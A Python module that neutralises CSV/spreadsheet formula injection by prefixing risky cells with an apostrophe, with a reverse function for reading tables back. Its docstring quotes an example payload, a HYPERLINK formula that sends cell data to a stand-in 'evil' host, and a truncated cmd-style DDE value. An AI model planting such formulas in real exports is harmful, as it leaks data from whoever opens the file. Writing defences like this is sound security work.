"""Spreadsheet cells that stay text: the one defence against CSV (formula) injection.

Excel, WPS and LibreOffice take a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return
as a formula, even in a CSV file: a member named `=HYPERLINK("http://evil/?"&A1, "Click")` would
run in the spreadsheet of whoever opens an export. Every CSV and XLSX cell the platform writes
goes through `defuse` (OWASP's rule): such a cell gets a leading apostrophe, which spreadsheets show
as text, and `undefuse` (used when reading tables back) removes it again.

Plain decimal numbers ("-12.50", "-3") are left alone, so a money column of refunds stays numbers
in a spreadsheet; anything else starting with `-` ("-1+1", "-2+3+cmd|...") is text.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-\d+(\.\d+)?")


def defuse(cell: str) -> str:
    """`cell` made safe to open in a spreadsheet: an apostrophe before a cell a spreadsheet would
    read as a formula (and before one that already starts with an apostrophe and a formula
    character, so reading it back gives exactly `cell`)."""
    if cell.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(cell):
        return "'" + cell
    if cell.startswith("'") and cell[1:].startswith(FORMULA_START):
        return "'" + cell
    return cell


def undefuse(cell: str) -> str:
    """A cell as it was before `defuse`: the apostrophe `defuse` would have added, removed
    (`undefuse(defuse(text)) == text` for any text)."""
    return cell[1:] if cell.startswith("'") and defuse(cell[1:]) == cell else cell


def defused_row(cells: Iterable[object]) -> list[str]:
    """A row's cells as defused text (None is an empty cell)."""
    return [defuse("" if cell is None else str(cell)) for cell in cells]
